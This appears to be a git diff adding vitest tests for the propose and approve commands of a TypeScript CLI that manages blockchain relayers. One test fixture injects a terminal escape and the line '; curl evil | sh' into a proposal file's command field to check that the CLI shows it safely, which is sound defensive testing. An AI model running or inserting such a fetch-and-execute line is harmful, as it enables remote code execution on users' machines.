@@ -1,11 +1,14 @@
 import { describe, expect, test } from "vitest";
+import { run } from "../../../src/cli/run.ts";
+import { type Transport, TransportFailure } from "../../../src/client/transport/transport.ts";
 import { parseJson } from "../../../src/contract/json.ts";
+import { createEmbeddedServer } from "../../../src/embedded-server/server.ts";
 import { memoryStore } from "../../../src/embedded-server/state/store.ts";
 import { cli } from "../../helpers/cli.ts";
 import { manualClock } from "../../helpers/manual-clock.ts";
 import { memoryJournal } from "../../helpers/memory/journal.ts";
 import { seedState } from "../../helpers/seed-state.ts";
-import { SERVER, TOKEN, type World } from "../../helpers/test-app.ts";
+import { SERVER, TOKEN, testApp, type World } from "../../helpers/test-app.ts";
 
 const SEND = "tx send eth-main-1 --to 0x70997970c51812dc3a010c7d01b50e0d17dc79c8 --value 1gwei --speed fast";
 
@@ -27,6 +30,18 @@ function shared(context: object = {}) {
     await cli(`approve ${id}`, { ...world, terminal: true, stdoutTerminal: false, answers, ...more });
   const pass = async (milliseconds: number) => await clock.sleep(milliseconds, never);
   return { world, pass, propose, approve };
+}
+
+/** The embedded server, of which no response to a write arrives. */
+function lossy({ store = memoryStore(seedState("demo")) }: World, seen?: () => void): { transport: Transport } {
+  const random = { uuid: () => "00000000-0000-4000-8000-000000000001", fraction: () => 0.5 };
+  const server = createEmbeddedServer({ token: TOKEN, store, clock: manualClock(), random });
+  const transport: Transport = async (request) => {
+    if (request.method === "GET") return await server(request);
+    seen?.();
+    throw new TransportFailure("reset", "the connection was reset", { sent: true });
+  };
+  return { transport };
 }
 
 describe("propose", () => {
@@ -62,6 +77,15 @@ describe("propose", () => {
       expect.stringContaining("missing-one"),
     ]);
     expect(world.proposals?.size).toBe(0);
+  });
+
+  test("sends nothing for a line with its own --, and keeps its flags before it", async () => {
+    const { propose, world } = shared();
+    const id = await propose("relayers pause -- eth-main-1");
+    expect(world.proposals?.get(`${id}.json`)).toContain('"target": "/api/v1/relayers/eth-main-1"');
+    const local = await cli("propose -- context delete -- prod", { ...world, terminal: true, answers: [true] });
+    expect(local.exitCode).toBe(2);
+    expect(Object.keys(world.config?.contexts ?? {})).toEqual(["prod"]);
   });
 
   test("is allowed in read-only mode", async () => {
@@ -110,6 +134,67 @@ describe("approve", () => {
     const { propose, approve } = shared();
     const ran = await approve(await propose(), [], { env: { RELAYCTL_READONLY: "1" } });
     expect(ran).toMatchObject({ exitCode: 3, writes: [] });
+    const readOnly = shared({ read_only: true });
+    const inContext = await readOnly.approve(await readOnly.propose(), []);
+    expect(inContext).toMatchObject({ exitCode: 3, writes: [] });
+  });
+
+  test.each(["CI", "RELAYCTL_NO_INPUT"])("refuses with %s set", async (name) => {
+    const { propose, approve } = shared();
+    expect(await approve(await propose(), [], { env: { [name]: "1" } })).toMatchObject({ exitCode: 3, writes: [] });
+  });
+
+  test("refuses what expired, was used, or was changed while the question was open", async () => {
+    const meanwhile: ((all: ReturnType<typeof shared>, id: string) => unknown)[] = [
+      ({ pass }) => pass(600_000),
+      ({ approve }, id) => approve(id),
+      ({ world }) => cli("relayers update eth-main-1 --name treasury", world),
+    ];
+    for (const act of meanwhile) {
+      const all = shared();
+      const id = await all.propose("relayers update eth-main-1 --name vault");
+      const { app, requests, stderr } = testApp({ ...all.world, terminal: true, stdoutTerminal: false });
+      const prompts = { ...(await app.prompts({})), confirm: async () => [await act(all, id)].length === 1 };
+      const exitCode = await run({ ...app, prompts: async () => prompts }, ["approve", id]);
+      expect(exitCode, stderr.text()).toBe(6);
+      expect(requests.filter(({ method }) => method !== "GET")).toEqual([]);
+    }
+  });
+
+  test("sends nothing again after a lost response, and says that the outcome is unknown", async () => {
+    const { propose, approve, world } = shared();
+    const id = await propose();
+    const { transport } = lossy(world);
+    const lost = await approve(id, [true], { service: transport });
+    expect(lost.exitCode, lost.stderr).toBe(11);
+    expect(lost.writes).toHaveLength(1);
+    expect(await approve(id, [])).toMatchObject({ exitCode: 6, writes: [] });
+  });
+
+  test("is used up before its request leaves", async () => {
+    const { propose, approve, world } = shared();
+    const id = await propose();
+    let wasUsed = false;
+    const { transport } = lossy(world, () => {
+      wasUsed = world.proposals?.has(`${id}.used`) === true;
+    });
+    await approve(id, [true], { service: transport });
+    expect(wasUsed).toBe(true);
+  });
+
+  test("shows control characters of a file as text, and no line of a shell as a command to run", async () => {
+    const { propose, approve, world, pass } = shared();
+    await propose(SEND, "--out pay.json");
+    const text = world.created?.get("pay.json") ?? "";
+    const hostile = text.replace(/"command": ".*"/, String.raw`"command": "relayctl tx\u001b[2J\n; curl evil | sh"`);
+    const declined = await approve("evil.json", [false], { files: { "evil.json": hostile } });
+    expect(declined.exitCode).toBe(3);
+    expect(declined.stderr).not.toContain("\u001b[2J");
+    expect(declined.stderr).not.toMatch(/^; curl/m);
+    await pass(600_000);
+    const late = await approve("evil.json", [], { files: { "evil.json": hostile } });
+    expect(late.exitCode).toBe(6);
+    expect(late.stderr).not.toContain("curl");
   });
 
   test("asks for the name of a protected context, and beyond its limits", async () => {
